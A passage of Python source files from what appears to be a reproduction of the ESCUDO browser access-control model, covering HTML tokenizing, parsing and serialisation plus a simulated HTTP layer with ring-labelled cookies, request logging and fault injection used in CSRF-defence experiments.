            # stay cheap because it runs for every AC-tag terminator.
            if closing is not None and closing == opening:
                return True
            return self.nonce_validator.matches(
                opening, closing, context=f"</div> closing {element.scope_path}"
            )
        return closing == opening


def parse_document(
    markup: str,
    url: str = "about:blank",
    nonce_validator: NonceValidator | None = None,
) -> Document:
    """Parse a full HTML document."""
    builder = TreeBuilder(url=url, nonce_validator=nonce_validator)
    return builder.build(tokenize(markup))


def parse_document_with_stats(
    markup: str,
    url: str = "about:blank",
    nonce_validator: NonceValidator | None = None,
) -> tuple[Document, TreeBuilder]:
    """Parse a document and also return the builder (for its counters)."""
    builder = TreeBuilder(url=url, nonce_validator=nonce_validator)
    document = builder.build(tokenize(markup))
    return document, builder


def parse_fragment(
    markup: str,
    owner: Document | None = None,
    nonce_validator: NonceValidator | None = None,
) -> list[Node]:
    """Parse an HTML fragment (e.g. an ``innerHTML`` assignment).

    Returns the top-level nodes of the fragment, owned by ``owner`` when one
    is given.  Nonce validation applies here too: injected terminators inside
    dynamically written markup are just as ignored as in static markup.
    """
    builder = TreeBuilder(url=owner.url if owner is not None else "about:blank",
                          nonce_validator=nonce_validator)
    document = builder.build(tokenize(markup))
    children = list(document.children)
    for child in children:
        document.remove_child(child)
        if owner is not None:
            _reown(child, owner)
    return children


def _reown(node: Node, owner: Document) -> None:
    node.owner_document = owner
    for child in node.children:
        _reown(child, owner)
