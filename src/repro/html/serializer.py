"""DOM → HTML serialisation.

Round-trips the reproduction's DOM trees back to markup.  Used by the
mediated ``innerHTML`` getter, by the template engine's output stage, and by
tests that assert on rendered pages.
"""

from __future__ import annotations

from repro.dom.document import Document
from repro.dom.element import Element, RAW_TEXT_ELEMENTS, VOID_ELEMENTS
from repro.dom.node import CommentNode, Node, TextNode

from .entities import escape_attribute, escape_text


def serialize(node: Node, *, indent: bool = False) -> str:
    """Serialise a node (and its subtree) to HTML text.

    ``indent`` pretty-prints with two-space indentation; the default compact
    form is byte-stable for round-trip tests.
    """
    pieces: list[str] = []
    if isinstance(node, Document):
        if node.doctype:
            pieces.append(f"<!{node.doctype}>")
            if indent:
                pieces.append("\n")
        for child in node.children:
            _serialize_node(child, pieces, 0, indent)
    else:
        _serialize_node(node, pieces, 0, indent)
    return "".join(pieces)


def serialize_children(node: Node, *, indent: bool = False) -> str:
    """Serialise only the children of ``node`` (the ``innerHTML`` view)."""
    pieces: list[str] = []
    for child in node.children:
        _serialize_node(child, pieces, 0, indent)
    return "".join(pieces)


def _serialize_node(node: Node, pieces: list[str], depth: int, indent: bool) -> None:
    pad = "  " * depth if indent else ""
    newline = "\n" if indent else ""
    if isinstance(node, TextNode):
        parent = node.parent
        if isinstance(parent, Element) and parent.tag_name in RAW_TEXT_ELEMENTS:
            text = node.data
        else:
            text = escape_text(node.data)
        if indent:
            stripped = text.strip()
            if not stripped:
                return
            pieces.append(f"{pad}{stripped}{newline}")
        else:
            pieces.append(text)
        return
    if isinstance(node, CommentNode):
        pieces.append(f"{pad}<!--{node.data}-->{newline}")
        return
    if isinstance(node, Element):
        attrs = _serialize_attributes(node)
        open_tag = f"<{node.tag_name}{attrs}>"
        if node.tag_name in VOID_ELEMENTS and not node.children:
            pieces.append(f"{pad}{open_tag}{newline}")
            return
        pieces.append(f"{pad}{open_tag}{newline}")
        for child in node.children:
            _serialize_node(child, pieces, depth + 1, indent)
        pieces.append(f"{pad}</{node.tag_name}>{newline}")
        return
    # Unknown node types (e.g. a Document nested oddly) serialise their children.
    for child in node.children:
        _serialize_node(child, pieces, depth, indent)


def _serialize_attributes(element: Element) -> str:
    parts = []
    for name, value in element.attributes.items():
        if value == "":
            parts.append(f" {name}")
        else:
            parts.append(f' {name}="{escape_attribute(value)}"')
    return "".join(parts)
