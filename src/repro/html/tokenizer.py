"""HTML tokenizer.

Turns markup text into a stream of tokens: start tags (with attributes and a
self-closing flag), end tags (which, unusually, may carry attributes --
ESCUDO's markup randomisation puts a ``nonce`` attribute on closing ``div``
tags), text runs, comments and doctypes.

The tokenizer is lenient in the way browsers are: malformed constructs
degrade to text rather than raising, and attribute values may be unquoted,
single-quoted or double-quoted.  Raw-text elements (``script``, ``style``,
``title``, ``textarea``) switch the tokenizer into a mode that swallows
everything up to the matching end tag, so markup-looking characters inside
scripts do not confuse the tree builder.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator

from repro.dom.element import RAW_TEXT_ELEMENTS

from .entities import decode_entities


@dataclass
class Token:
    """Base class for every token."""


@dataclass
class StartTagToken(Token):
    """``<name attr=value ...>`` or ``<name ... />``."""

    name: str
    attributes: dict[str, str] = field(default_factory=dict)
    self_closing: bool = False


@dataclass
class EndTagToken(Token):
    """``</name>`` -- possibly with attributes (``</div nonce=...>``)."""

    name: str
    attributes: dict[str, str] = field(default_factory=dict)


@dataclass
class TextToken(Token):
    """A run of character data (entities already decoded)."""

    data: str


@dataclass
class RawTextToken(Token):
    """Content of a raw-text element (``script`` bodies are not entity-decoded)."""

    data: str


@dataclass
class CommentToken(Token):
    """``<!-- ... -->``."""

    data: str


@dataclass
class DoctypeToken(Token):
    """``<!DOCTYPE ...>``."""

    data: str


def tokenize(markup: str) -> Iterator[Token]:
    """Yield tokens for ``markup``."""
    return _Tokenizer(markup).tokens()


class _Tokenizer:
    """Single-pass scanner over the markup string."""

    def __init__(self, markup: str) -> None:
        self._text = markup
        self._pos = 0
        self._length = len(markup)
        # Lazily lowered copy for raw-text end-tag searches: lowering the
        # whole document once beats re-lowering it per <script>/<title>.
        self._lowered: str | None = None

    def tokens(self) -> Iterator[Token]:
        while self._pos < self._length:
            lt = self._text.find("<", self._pos)
            if lt == -1:
                yield TextToken(decode_entities(self._text[self._pos :]))
                break
            if lt > self._pos:
                yield TextToken(decode_entities(self._text[self._pos : lt]))
                self._pos = lt
            token = self._consume_markup()
            if token is None:
                # Lone '<' that does not open anything: emit as text.
                yield TextToken("<")
                self._pos += 1
                continue
            yield token
            if isinstance(token, StartTagToken) and not token.self_closing \
                    and token.name in RAW_TEXT_ELEMENTS:
                raw = self._consume_raw_text(token.name)
                if raw is not None:
                    yield raw

    # -- markup constructs ---------------------------------------------------------

    def _consume_markup(self) -> Token | None:
        text = self._text
        pos = self._pos
        if text.startswith("<!--", pos):
            end = text.find("-->", pos + 4)
            if end == -1:
                data = text[pos + 4 :]
                self._pos = self._length
            else:
                data = text[pos + 4 : end]
                self._pos = end + 3
            return CommentToken(data)
        if text.startswith("<!", pos):
            end = text.find(">", pos + 2)
            if end == -1:
                self._pos = self._length
                return DoctypeToken(text[pos + 2 :].strip())
            self._pos = end + 1
            return DoctypeToken(text[pos + 2 : end].strip())
        if text.startswith("</", pos):
            return self._consume_tag(pos + 2, end_tag=True)
        if pos + 1 < self._length and (text[pos + 1].isalpha()):
            return self._consume_tag(pos + 1, end_tag=False)
        return None

    def _consume_tag(self, name_start: int, *, end_tag: bool) -> Token | None:
        text = self._text
        pos = name_start
        while pos < self._length and (text[pos].isalnum() or text[pos] in "-_:"):
            pos += 1
        name = text[name_start:pos].lower()
        if not name:
            return None
        attributes, pos, self_closing = self._consume_attributes(pos)
        self._pos = pos
        if end_tag:
            return EndTagToken(name=name, attributes=attributes)
        return StartTagToken(name=name, attributes=attributes, self_closing=self_closing)

    def _consume_attributes(self, pos: int) -> tuple[dict[str, str], int, bool]:
        text = self._text
        attributes: dict[str, str] = {}
        self_closing = False
        while pos < self._length:
            while pos < self._length and text[pos].isspace():
                pos += 1
            if pos >= self._length:
                break
            ch = text[pos]
            if ch == ">":
                pos += 1
                return attributes, pos, self_closing
            if ch == "/":
                pos += 1
                if pos < self._length and text[pos] == ">":
                    return attributes, pos + 1, True
                continue
            name_start = pos
            while pos < self._length and text[pos] not in "=/> \t\r\n":
                pos += 1
            attr_name = text[name_start:pos].lower()
            while pos < self._length and text[pos].isspace():
                pos += 1
            value = ""
            if pos < self._length and text[pos] == "=":
                pos += 1
                while pos < self._length and text[pos].isspace():
                    pos += 1
                if pos < self._length and text[pos] in "\"'":
                    quote = text[pos]
                    pos += 1
                    # find() scans the quoted value at C speed; attribute
                    # values (nonces, ids, rings) are the long spans here.
                    close = text.find(quote, pos)
                    if close == -1:
                        value = text[pos:]
                        pos = self._length
                    else:
                        value = text[pos:close]
                        pos = close + 1
                else:
                    value_start = pos
                    while pos < self._length and text[pos] not in "> \t\r\n":
                        pos += 1
                    value = text[value_start:pos]
            if attr_name:
                attributes[attr_name] = decode_entities(value)
        return attributes, pos, self_closing

    # -- raw text ----------------------------------------------------------------------

    def _consume_raw_text(self, tag_name: str) -> RawTextToken | None:
        """Swallow content up to (not including) ``</tag_name``."""
        lowered = self._lowered
        if lowered is None:
            lowered = self._lowered = self._text.lower()
        marker = f"</{tag_name}"
        end = lowered.find(marker, self._pos)
        if end == -1:
            data = self._text[self._pos :]
            self._pos = self._length
        else:
            data = self._text[self._pos : end]
            self._pos = end
        if data == "":
            return None
        return RawTextToken(data)
