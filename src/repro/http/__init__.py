"""Synthetic HTTP substrate: URLs, headers, cookies, messages and routing."""

from .cookies import Cookie, CookieJar, format_cookie_header, parse_set_cookie
from .headers import Headers
from .messages import HttpRequest, HttpResponse
from .network import HttpServer, Network, RequestRecord, build_network
from .url import Url, encode_query

__all__ = [
    "Cookie",
    "CookieJar",
    "Headers",
    "HttpRequest",
    "HttpResponse",
    "HttpServer",
    "Network",
    "RequestRecord",
    "Url",
    "build_network",
    "encode_query",
    "format_cookie_header",
    "parse_set_cookie",
]
