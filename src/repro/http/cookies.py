"""Cookies and the browser cookie jar.

Cookies are first-class ESCUDO objects: the application assigns them a ring
(and optionally an ACL) via the optional ``X-Escudo-Cookie-Policy`` response
header; the browser attaches a cookie to an outgoing HTTP request only when
the principal that initiated the request passes the ``use`` check for that
cookie, and scripts may read/write ``document.cookie`` only subject to the
``read``/``write`` checks.  This is the mechanism that neutralises CSRF in
the paper's evaluation.

The jar itself is pure storage -- mediation happens in the browser substrate
through the reference monitor -- but every stored cookie carries its
security context so the monitor can be consulted directly.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Iterable, Iterator

from repro.core.acl import Acl
from repro.core.config import PageConfiguration, ResourcePolicy
from repro.core.context import SecurityContext
from repro.core.decision import Operation
from repro.core.monitor import ReferenceMonitor
from repro.core.origin import Origin
from repro.core.rings import Ring


@dataclass(frozen=True)
class Cookie:
    """A single cookie together with its ESCUDO labelling."""

    name: str
    value: str
    origin: Origin
    path: str = "/"
    secure: bool = False
    http_only: bool = False
    ring: Ring = field(default_factory=lambda: Ring(0))
    acl: Acl = field(default_factory=lambda: Acl.uniform(0))

    @property
    def security_context(self) -> SecurityContext:
        """Context the reference monitor evaluates for this cookie."""
        return SecurityContext(
            origin=self.origin,
            ring=self.ring,
            acl=self.acl,
            label=f"cookie:{self.name}",
        )

    @property
    def label(self) -> str:
        """Display label used in access decisions."""
        return f"cookie:{self.name}"

    def with_policy(self, policy: ResourcePolicy) -> "Cookie":
        """Copy of this cookie relabelled with ``policy`` (ring + ACL)."""
        return replace(self, ring=policy.ring, acl=policy.acl)

    def with_value(self, value: str) -> "Cookie":
        """Copy of this cookie with a new value (labels unchanged)."""
        return replace(self, value=value)

    def header_pair(self) -> str:
        """``name=value`` form used in the ``Cookie`` request header."""
        return f"{self.name}={self.value}"

    def matches_path(self, request_path: str) -> bool:
        """Standard cookie path matching."""
        if self.path == "/" or request_path == self.path:
            return True
        prefix = self.path if self.path.endswith("/") else self.path + "/"
        return request_path.startswith(prefix)


def parse_set_cookie(value: str, origin: Origin) -> Cookie:
    """Parse one ``Set-Cookie`` header value into an (unlabelled) cookie.

    The ESCUDO labelling comes separately from the page configuration
    (``X-Escudo-Cookie-Policy``); by default cookies land in ring 0 per the
    paper's fail-safe default.
    """
    parts = [part.strip() for part in value.split(";")]
    name, _, cookie_value = parts[0].partition("=")
    path = "/"
    secure = False
    http_only = False
    for attr in parts[1:]:
        key, _, raw = attr.partition("=")
        key = key.strip().lower()
        if key == "path":
            # RFC 6265 §5.2.4: a path value that is empty or does not start
            # with "/" is ignored and the default path applies -- treating
            # any non-empty value as valid would let `Path=foo` cookies
            # shadow or miss legitimate path scopes.
            candidate = raw.strip()
            if candidate.startswith("/"):
                path = candidate
        elif key == "secure":
            secure = True
        elif key == "httponly":
            http_only = True
    return Cookie(
        name=name.strip(),
        value=cookie_value.strip(),
        origin=origin,
        path=path,
        secure=secure,
        http_only=http_only,
    )


def format_cookie_header(cookies: Iterable[Cookie]) -> str:
    """Render cookies into a ``Cookie`` request header value."""
    return "; ".join(cookie.header_pair() for cookie in cookies)


def authorized_cookies(
    monitor: ReferenceMonitor,
    principal: SecurityContext,
    cookies: list[Cookie],
    operation: Operation,
) -> list[Cookie]:
    """Batch-mediate ``operation`` over many cookies; return those allowed.

    Cookie attachment (``use``) and ``document.cookie`` reads sweep the whole
    jar for an origin on every request, so they go through the monitor's
    batch path: the principal is coerced once and cookies sharing a security
    context are decided once.  Every cookie still gets its own recorded
    decision (complete mediation of the sweep is preserved).
    """
    if not cookies:
        return []
    decisions = monitor.authorize_all(principal, cookies, operation)
    return [cookie for cookie, decision in zip(cookies, decisions) if decision.allowed]


class CookieJar:
    """Per-browser cookie storage, keyed by origin and cookie name."""

    def __init__(self) -> None:
        self._cookies: dict[tuple[Origin, str], Cookie] = {}

    # -- mutation ---------------------------------------------------------------

    def set(self, cookie: Cookie) -> None:
        """Store (or overwrite) a cookie."""
        self._cookies[(cookie.origin, cookie.name)] = cookie

    def store_from_response(
        self,
        origin: Origin,
        set_cookie_values: Iterable[str],
        configuration: PageConfiguration | None = None,
    ) -> list[Cookie]:
        """Store every cookie from a response's ``Set-Cookie`` headers.

        When the response carried an ESCUDO cookie policy, each cookie is
        labelled with its configured ring/ACL; otherwise it keeps the ring-0
        default.  Returns the stored cookies (post-labelling).
        """
        stored: list[Cookie] = []
        for raw in set_cookie_values:
            cookie = parse_set_cookie(raw, origin)
            if configuration is not None and configuration.escudo_enabled:
                cookie = cookie.with_policy(configuration.cookie_policy(cookie.name))
            self.set(cookie)
            stored.append(cookie)
        return stored

    def delete(self, origin: Origin, name: str) -> None:
        """Remove a cookie if present."""
        self._cookies.pop((origin, name), None)

    def clear(self) -> None:
        """Remove every cookie (fresh browser profile)."""
        self._cookies.clear()

    # -- queries ---------------------------------------------------------------------

    def get(self, origin: Origin, name: str) -> Cookie | None:
        """Look up one cookie by origin and name."""
        return self._cookies.get((origin, name))

    def cookies_for(self, origin: Origin, path: str = "/", *, secure_channel: bool | None = None) -> list[Cookie]:
        """Cookies eligible for a request to ``origin`` at ``path``.

        ``secure_channel`` filters out ``Secure`` cookies on plain-HTTP
        requests when provided; when ``None`` the scheme of the origin is
        used.
        """
        https = secure_channel if secure_channel is not None else origin.scheme == "https"
        eligible = []
        for (cookie_origin, _), cookie in self._cookies.items():
            if cookie_origin != origin:
                continue
            if cookie.secure and not https:
                continue
            if not cookie.matches_path(path):
                continue
            eligible.append(cookie)
        eligible.sort(key=lambda c: c.name)
        return eligible

    def all_cookies(self) -> list[Cookie]:
        """Every stored cookie."""
        return list(self._cookies.values())

    def __len__(self) -> int:
        return len(self._cookies)

    def __iter__(self) -> Iterator[Cookie]:
        return iter(self._cookies.values())

    def __contains__(self, key: tuple[Origin, str]) -> bool:
        return key in self._cookies
