"""Case-insensitive HTTP header collection.

HTTP header names are case-insensitive and some headers (notably
``Set-Cookie``) may legitimately appear multiple times, so a plain dict is
not quite enough.  :class:`Headers` preserves insertion order and original
casing for serialisation while matching names case-insensitively.
"""

from __future__ import annotations

from typing import Iterable, Iterator, Mapping


class Headers:
    """An ordered, case-insensitive multimap of HTTP headers."""

    def __init__(self, initial: "Mapping[str, str] | Iterable[tuple[str, str]] | Headers | None" = None) -> None:
        self._items: list[tuple[str, str]] = []
        if initial is None:
            return
        if isinstance(initial, Headers):
            self._items.extend(initial.items())
        elif isinstance(initial, Mapping):
            for name, value in initial.items():
                self.add(name, value)
        else:
            for name, value in initial:
                self.add(name, value)

    # -- mutation ---------------------------------------------------------------

    def add(self, name: str, value: str) -> None:
        """Append a header, keeping any existing headers with the same name."""
        self._items.append((str(name), str(value)))

    def set(self, name: str, value: str) -> None:
        """Replace all headers called ``name`` with a single value."""
        self.remove(name)
        self.add(name, value)

    def remove(self, name: str) -> None:
        """Delete every header called ``name`` (no error if absent)."""
        lowered = name.lower()
        self._items = [(n, v) for n, v in self._items if n.lower() != lowered]

    def update(self, other: "Mapping[str, str] | Headers") -> None:
        """Set every header from ``other`` (replacing same-named headers)."""
        items = other.items() if isinstance(other, (Headers, dict)) else other
        for name, value in items:
            self.set(name, value)

    # -- queries -------------------------------------------------------------------

    def get(self, name: str, default: str | None = None) -> str | None:
        """First value of header ``name``, or ``default``."""
        lowered = name.lower()
        for n, v in self._items:
            if n.lower() == lowered:
                return v
        return default

    def get_all(self, name: str) -> list[str]:
        """Every value of header ``name``, in insertion order."""
        lowered = name.lower()
        return [v for n, v in self._items if n.lower() == lowered]

    def items(self) -> list[tuple[str, str]]:
        """All ``(name, value)`` pairs in insertion order."""
        return list(self._items)

    def to_dict(self) -> dict[str, str]:
        """Flatten into a plain dict (first value wins for duplicates)."""
        result: dict[str, str] = {}
        for name, value in self._items:
            result.setdefault(name, value)
        return result

    def __contains__(self, name: object) -> bool:
        if not isinstance(name, str):
            return False
        return self.get(name) is not None

    def __getitem__(self, name: str) -> str:
        value = self.get(name)
        if value is None:
            raise KeyError(name)
        return value

    def __setitem__(self, name: str, value: str) -> None:
        self.set(name, value)

    def __iter__(self) -> Iterator[tuple[str, str]]:
        return iter(self._items)

    def __len__(self) -> int:
        return len(self._items)

    def __eq__(self, other: object) -> bool:
        if isinstance(other, Headers):
            return self._normalized() == other._normalized()
        return NotImplemented

    def _normalized(self) -> list[tuple[str, str]]:
        return [(n.lower(), v) for n, v in self._items]

    def __repr__(self) -> str:
        return f"Headers({self._items!r})"
