"""HTTP request and response messages.

A compact, in-process model of HTTP/1.1 messages: enough structure for the
browser substrate (methods, headers, cookies, form bodies, status codes,
redirects) without any real sockets.  Responses carry the optional ESCUDO
headers; :meth:`HttpResponse.escudo_configuration` extracts them into a
:class:`~repro.core.config.PageConfiguration`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.config import PageConfiguration

from .headers import Headers
from .url import Url, encode_query


#: Minimal set of reason phrases used by the synthetic servers.
REASON_PHRASES = {
    200: "OK",
    201: "Created",
    302: "Found",
    303: "See Other",
    400: "Bad Request",
    401: "Unauthorized",
    403: "Forbidden",
    404: "Not Found",
    405: "Method Not Allowed",
    500: "Internal Server Error",
    502: "Bad Gateway",
    503: "Service Unavailable",
}


@dataclass
class HttpRequest:
    """One HTTP request as issued by the browser substrate.

    ``initiator`` records a description of the principal that caused the
    request (an ``img`` tag, a form submission, an ``XMLHttpRequest`` call,
    or the user typing a URL); ``initiator_page`` records the URL of the
    page whose content issued it (empty for user navigations).  The network
    log uses both so the CSRF experiments can attribute requests -- in
    particular, whether a request was issued *cross-site*.  Neither affects
    routing.
    """

    method: str
    url: Url
    headers: Headers = field(default_factory=Headers)
    body: str = ""
    form: dict[str, str] = field(default_factory=dict)
    initiator: str = "user"
    initiator_page: str = ""

    def __post_init__(self) -> None:
        self.method = self.method.upper()
        if isinstance(self.url, str):
            self.url = Url.parse(self.url)

    # -- parameters -------------------------------------------------------------

    @property
    def params(self) -> dict[str, str]:
        """Merged query + form parameters (form wins on conflicts)."""
        merged = dict(self.url.params)
        merged.update(self.form)
        return merged

    def param(self, name: str, default: str | None = None) -> str | None:
        """Single parameter lookup."""
        return self.params.get(name, default)

    # -- cookies ------------------------------------------------------------------

    @property
    def cookie_header(self) -> str | None:
        """The raw ``Cookie`` header, if any cookies were attached."""
        return self.headers.get("Cookie")

    @property
    def cookies(self) -> dict[str, str]:
        """Cookies attached to this request, as a name → value dict."""
        header = self.cookie_header
        if not header:
            return {}
        result: dict[str, str] = {}
        for pair in header.split(";"):
            name, _, value = pair.strip().partition("=")
            if name:
                result[name] = value
        return result

    def attach_cookie_header(self, header_value: str) -> None:
        """Set the ``Cookie`` header (the browser calls this after mediation)."""
        if header_value:
            self.headers.set("Cookie", header_value)

    # -- misc ----------------------------------------------------------------------

    @property
    def origin(self):
        """Origin the request is addressed to."""
        return self.url.origin

    def serialized_body(self) -> str:
        """Body as transmitted (form-encodes ``form`` when no raw body set)."""
        if self.body:
            return self.body
        if self.form:
            return encode_query(self.form)
        return ""

    def __str__(self) -> str:
        return f"{self.method} {self.url}"


@dataclass
class HttpResponse:
    """One HTTP response produced by a synthetic server."""

    status: int = 200
    headers: Headers = field(default_factory=Headers)
    body: str = ""
    content_type: str = "text/html; charset=utf-8"
    #: Non-empty when this response was synthesised by the fault-injection
    #: plane instead of a server (the fault kind, e.g. ``"drop"``).  The
    #: browser's retry layer keys off this; applications never set it.
    fault: str = ""

    # -- construction helpers ------------------------------------------------------

    @classmethod
    def html(cls, body: str, status: int = 200) -> "HttpResponse":
        """An HTML response."""
        return cls(status=status, body=body)

    @classmethod
    def text(cls, body: str, status: int = 200) -> "HttpResponse":
        """A plain-text response."""
        return cls(status=status, body=body, content_type="text/plain; charset=utf-8")

    @classmethod
    def not_found(cls, detail: str = "not found") -> "HttpResponse":
        """A 404 response."""
        return cls(status=404, body=f"<html><body><h1>404</h1><p>{detail}</p></body></html>")

    @classmethod
    def redirect(cls, location: str, status: int = 302) -> "HttpResponse":
        """A redirect response."""
        response = cls(status=status, body="")
        response.headers.set("Location", location)
        return response

    @classmethod
    def forbidden(cls, detail: str = "forbidden") -> "HttpResponse":
        """A 403 response."""
        return cls(status=403, body=f"<html><body><h1>403</h1><p>{detail}</p></body></html>")

    # -- cookies & ESCUDO headers ---------------------------------------------------

    def set_cookie(self, name: str, value: str, *, path: str = "/", secure: bool = False,
                   http_only: bool = False) -> None:
        """Append a ``Set-Cookie`` header."""
        parts = [f"{name}={value}", f"Path={path}"]
        if secure:
            parts.append("Secure")
        if http_only:
            parts.append("HttpOnly")
        self.headers.add("Set-Cookie", "; ".join(parts))

    @property
    def set_cookie_values(self) -> list[str]:
        """All ``Set-Cookie`` header values."""
        return self.headers.get_all("Set-Cookie")

    def apply_escudo_headers(self, configuration: PageConfiguration) -> None:
        """Emit the optional ESCUDO headers for ``configuration``."""
        for name, value in configuration.to_headers().items():
            self.headers.set(name, value)

    def escudo_configuration(self) -> PageConfiguration:
        """Extract the page's ESCUDO configuration from the response headers.

        Responses without any ESCUDO header yield a configuration with
        ``escudo_enabled=False`` (the body may still enable ESCUDO through AC
        tags; the loader handles that).
        """
        from repro.core.config import API_POLICY_HEADER, COOKIE_POLICY_HEADER, RINGS_HEADER

        headers = self.headers
        return PageConfiguration.from_header_values(
            headers.get(RINGS_HEADER),
            headers.get(COOKIE_POLICY_HEADER),
            headers.get(API_POLICY_HEADER),
        )

    # -- misc --------------------------------------------------------------------------

    @property
    def reason(self) -> str:
        """Reason phrase for the status code."""
        return REASON_PHRASES.get(self.status, "Unknown")

    @property
    def ok(self) -> bool:
        """True for 2xx statuses."""
        return 200 <= self.status < 300

    @property
    def is_redirect(self) -> bool:
        """True for 3xx statuses carrying a ``Location`` header."""
        return 300 <= self.status < 400 and "Location" in self.headers

    def __str__(self) -> str:
        return f"{self.status} {self.reason}"
