"""In-process network fabric.

The reproduction has no sockets: browsers and server applications live in the
same process and exchange :class:`~repro.http.messages.HttpRequest` /
``HttpResponse`` objects through a :class:`Network`.  Servers register
themselves for an origin; the browser's loader and XHR implementation call
:meth:`Network.dispatch`.

Every dispatched request is recorded in a request log.  The CSRF experiments
use the log to check *which cookies actually reached the server* -- the
ground truth for whether an attack succeeded -- and the benchmarks use it to
count traffic.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Protocol, runtime_checkable

from repro.core.origin import Origin
from repro.faults.plan import SITE_NETWORK as _SITE_NETWORK

from .messages import HttpRequest, HttpResponse
from .url import Url


@runtime_checkable
class HttpServer(Protocol):
    """Anything that can answer HTTP requests (the webapp framework does)."""

    def handle_request(self, request: HttpRequest) -> HttpResponse:  # pragma: no cover - protocol
        ...


@dataclass
class RequestRecord:
    """One entry in the network's request log."""

    request: HttpRequest
    response: HttpResponse
    sequence: int

    @property
    def url(self) -> Url:
        """URL the request targeted."""
        return self.request.url

    @property
    def cookies_sent(self) -> dict[str, str]:
        """Cookies that were attached to the request when it hit the wire."""
        return self.request.cookies

    @property
    def initiator(self) -> str:
        """Description of the principal that issued the request."""
        return self.request.initiator


class Network:
    """Routes requests from browsers to registered server applications."""

    def __init__(self) -> None:
        self._servers: dict[Origin, HttpServer] = {}
        self._log: list[RequestRecord] = []
        self._sequence = 0
        #: Armed by the scenario runner; ``None`` means the fault plane is
        #: absent and dispatch takes the plain path.
        self.fault_plan = None
        self._fault_log: list[RequestRecord] = []
        self._fault_sequence = 0

    # -- topology ---------------------------------------------------------------

    def register(self, origin: Origin | str, server: HttpServer) -> None:
        """Attach ``server`` to ``origin`` (string origins are parsed)."""
        resolved = origin if isinstance(origin, Origin) else Origin.parse(origin)
        self._servers[resolved] = server

    def unregister(self, origin: Origin | str) -> None:
        """Detach whatever server is bound to ``origin``."""
        resolved = origin if isinstance(origin, Origin) else Origin.parse(origin)
        self._servers.pop(resolved, None)

    def server_for(self, origin: Origin) -> HttpServer | None:
        """The server registered for ``origin``, if any."""
        return self._servers.get(origin)

    @property
    def origins(self) -> list[Origin]:
        """Every origin with a registered server."""
        return list(self._servers)

    # -- request dispatch ----------------------------------------------------------

    def dispatch(self, request: HttpRequest) -> HttpResponse:
        """Deliver ``request`` to the responsible server and log the exchange.

        Unknown origins produce a 502 so misconfigured tests fail loudly
        rather than hanging.

        When a fault plan is armed, the plane may intercept the exchange
        *before* the server sees it: dropped/timed-out/5xx-injected
        requests never reach a handler and are recorded in the separate
        fault log, not the main one.  The main log stays the CSRF ground
        truth for which cookies actually reached a server — a faulted
        exchange can only remove capability relative to the fault-free
        run, never add it (fail-closed).
        """
        plan = self.fault_plan
        if plan is not None:
            kind = plan.decide(_SITE_NETWORK)
            if kind is not None:
                return self._record_fault(request, kind)
        server = self._servers.get(request.origin)
        if server is None:
            response = HttpResponse(
                status=502,
                body=f"<html><body>no server registered for {request.origin}</body></html>",
            )
        else:
            response = server.handle_request(request)
        self._sequence += 1
        self._log.append(RequestRecord(request=request, response=response, sequence=self._sequence))
        return response

    def _record_fault(self, request: HttpRequest, kind: str) -> HttpResponse:
        """Synthesise and log the fault-plane response for ``kind``."""
        if kind == "http_500":
            response = HttpResponse(
                status=500,
                body="<html><body><h1>500</h1><p>injected transient server error</p></body></html>",
                fault=kind,
            )
        else:
            # drop / timeout: the exchange never completes; the browser
            # sees a status-0 response with no body and no headers.
            response = HttpResponse(status=0, body="", content_type="", fault=kind)
        self._fault_sequence += 1
        self._fault_log.append(
            RequestRecord(request=request, response=response, sequence=self._fault_sequence)
        )
        return response

    # -- the request log --------------------------------------------------------------

    @property
    def request_log(self) -> list[RequestRecord]:
        """Every request dispatched so far, oldest first."""
        return list(self._log)

    def requests_to(self, origin: Origin | str) -> list[RequestRecord]:
        """Log entries addressed to ``origin``."""
        resolved = origin if isinstance(origin, Origin) else Origin.parse(origin)
        return [record for record in self._log if record.request.origin == resolved]

    def requests_matching(self, *, path_prefix: str = "", method: str | None = None,
                          initiator_contains: str = "") -> list[RequestRecord]:
        """Filter the log by path prefix, method and/or initiator substring."""
        matches = []
        for record in self._log:
            if path_prefix and not record.request.url.path.startswith(path_prefix):
                continue
            if method and record.request.method != method.upper():
                continue
            if initiator_contains and initiator_contains not in record.initiator:
                continue
            matches.append(record)
        return matches

    @property
    def fault_log(self) -> list[RequestRecord]:
        """Exchanges intercepted by the fault plane, oldest first."""
        return list(self._fault_log)

    def clear_log(self) -> None:
        """Reset the request log (between experiment repetitions)."""
        self._log.clear()
        self._sequence = 0
        self._fault_log.clear()
        self._fault_sequence = 0

    def traffic_summary(self) -> dict[str, int]:
        """Counts per origin, used by the benchmark reports."""
        summary: dict[str, int] = {}
        for record in self._log:
            key = str(record.request.origin)
            summary[key] = summary.get(key, 0) + 1
        return summary


def build_network(servers: Iterable[tuple[str, HttpServer]]) -> Network:
    """Convenience constructor: build a network from (origin, server) pairs."""
    network = Network()
    for origin, server in servers:
        network.register(origin, server)
    return network
