"""URL parsing and resolution for the synthetic HTTP substrate.

A deliberately small, dependency-free URL implementation sufficient for the
reproduction: absolute ``http``/``https`` URLs with host, optional port,
path, query string and fragment, plus relative-reference resolution (needed
when pages link to ``"post.php?id=3"`` style URLs).

The :class:`Url` type exposes its :class:`~repro.core.origin.Origin`, which
is what both the same-origin policy baseline and ESCUDO's origin rule
compare.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from functools import lru_cache

from repro.core.errors import ConfigurationError
from repro.core.origin import DEFAULT_PORTS, Origin


def _parse_query(query: str) -> dict[str, str]:
    """Parse ``a=1&b=two`` into a dict (last duplicate wins, '+' is a space)."""
    params: dict[str, str] = {}
    if not query:
        return params
    for pair in query.split("&"):
        if not pair:
            continue
        key, _, value = pair.partition("=")
        params[_unquote(key)] = _unquote(value)
    return params


def _quote(text: str) -> str:
    """Minimal percent-encoding for query components."""
    safe = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.~"
    out = []
    for ch in text:
        if ch in safe:
            out.append(ch)
        elif ch == " ":
            out.append("+")
        else:
            out.append("".join(f"%{b:02X}" for b in ch.encode("utf-8")))
    return "".join(out)


_HEX_DIGITS = frozenset("0123456789abcdefABCDEF")


def _unquote(text: str) -> str:
    """Inverse of :func:`_quote`.

    ``%XX`` escapes decode byte-wise (so multi-byte UTF-8 sequences
